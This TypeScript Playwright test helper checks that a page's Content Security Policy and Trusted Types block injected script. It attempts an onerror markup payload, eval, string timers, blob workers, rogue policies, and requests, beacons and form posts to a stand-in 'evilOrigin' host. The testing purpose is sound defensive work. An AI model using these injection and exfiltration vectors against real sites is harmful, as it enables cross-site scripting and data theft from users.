import type { Page } from 'playwright-core';

/**
 * What script that runs in our page may try, by name; each answers what the browser made of it:
 * `refused`, or `done`.
 */
export async function tryFromPage(page: Page, evilOrigin: string): Promise<Record<string, string>> {
  return page.evaluate(
    (evilOrigin) =>
      new Promise<Record<string, string>>((resolve) => {
        const mark = 'globalThis.ranExternal = 1';
        const markup = `<img src=x onerror="${mark}">`;
        const blobUrl = URL.createObjectURL(new Blob([mark], { type: 'text/javascript' }));
        const make = document.createElement.bind(document);
        const global = globalThis;
        const given = (name: string): ((...values: unknown[]) => unknown) => {
          const found: unknown = Reflect.get(global, name);
          if (typeof found !== 'function') throw new Error(`There is no ${name}`);
          return (...values) => Reflect.apply(found, undefined, values);
        };
        const made = (name: string, ...values: unknown[]): unknown => {
          const found: unknown = Reflect.get(global, name);
          if (typeof found !== 'function') throw new Error(`There is no ${name}`);
          return Reflect.construct(found, values);
        };
        const makePolicy = (name: string) => {
          const types: unknown = Reflect.get(global, 'trustedTypes');
          if (!(types instanceof Object)) throw new Error('There are no trusted types');
          const create: unknown = Reflect.get(types, 'createPolicy');
          if (typeof create !== 'function') throw new Error('No policy can be made');
          Reflect.apply(create, types, [name, { createHTML: (text: string) => text }]);
        };
        const attempts: Record<string, () => unknown> = {
          innerHTML: () => {
            make('div').innerHTML = markup;
          },
          outerHTML: () => {
            const inner = make('div');
            make('div').append(inner);
            inner.outerHTML = markup;
          },
          insertAdjacentHTML: () => make('div').insertAdjacentHTML('beforeend', markup),
          'document.write': () => document.write(markup),
          DOMParser: () => new DOMParser().parseFromString(markup, 'text/html'),
          createContextualFragment: () => new Range().createContextualFragment(markup),
          srcdoc: () => {
            make('iframe').srcdoc = markup;
          },
          'an event handler attribute': () => make('div').setAttribute('onclick', mark),
          'script.src': () => {
            make('script').src = '/assets/x.js';
          },
          'script.text': () => {
            make('script').text = mark;
          },
          'script.textContent': () => {
            make('script').textContent = mark;
          },
          eval: () => given('eval')(mark),
          'new Function': () => made('Function', mark),
          'setTimeout of a string': () => given('setTimeout')(mark),
          'new Worker of a blob': () => new Worker(blobUrl),
          'new Worker of our own file': () => new Worker('/assets/x.js'),
          'new SharedWorker': () => new SharedWorker(blobUrl),
          'a service worker': () => navigator.serviceWorker.register('/x.js'),
          'a policy of its own': () => makePolicy('evil'),
          'the policy of ours again': () => makePolicy('polytips'),
          'import of a blob': () => import(blobUrl),
          'import from afar': () => import(`${evilOrigin}/module.js`),
          fetch: () => fetch(`${evilOrigin}/fetch`),
          XMLHttpRequest: () =>
            new Promise((resolve, reject) => {
              const request = new XMLHttpRequest();
              request.addEventListener('load', resolve);
              request.addEventListener('error', () => reject(new Error('refused')));
              request.open('GET', `${evilOrigin}/xhr`);
              request.send();
            }),
          WebSocket: () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(`${evilOrigin.replace('https', 'wss')}/socket`);
              socket.addEventListener('open', resolve);
              socket.addEventListener('error', () => reject(new Error('refused')));
            }),
          EventSource: () =>
            new Promise((resolve, reject) => {
              const source = new EventSource(`${evilOrigin}/events`);
              source.addEventListener('open', resolve);
              source.addEventListener('error', () => reject(new Error('refused')));
            }),
          'an image': () =>
            new Promise((resolve, reject) => {
              const image = new Image();
              image.addEventListener('load', resolve);
              image.addEventListener('error', () => reject(new Error('refused')));
              image.src = `${evilOrigin}/image.png`;
            }),
          'a script that was parsed': () =>
            new Promise((resolve, reject) => {
              const inserted = make('script');
              inserted.addEventListener('load', resolve);
              inserted.addEventListener('error', () => reject(new Error('refused')));
              inserted.setAttribute('src', `${evilOrigin}/x.js`);
              document.body.append(inserted);
            }),
        };
        // Out of reach of the debugger, which lets what it calls itself make code from strings.
        setTimeout(() => {
          const tried = Object.entries(attempts).map(async ([name, attempt]) => {
            try {
              await attempt();
              return [name, 'done'] as const;
            } catch {
              return [name, 'refused'] as const;
            }
          });
          // These never say whether they were refused: only the other side tells.
          navigator.sendBeacon(`${evilOrigin}/beacon`, 'x');
          const form = document.createElement('form');
          form.action = `${evilOrigin}/form`;
          form.method = 'post';
          form.target = '_self';
          document.body.append(form);
          form.submit();
          const link = document.createElement('link');
          link.rel = 'prefetch';
          link.href = `${evilOrigin}/prefetch`;
          document.head.append(link);
          void Promise.all(tried).then((results) => resolve(Object.fromEntries(results)));
        }, 0);
      }),
    evilOrigin,
  );
}
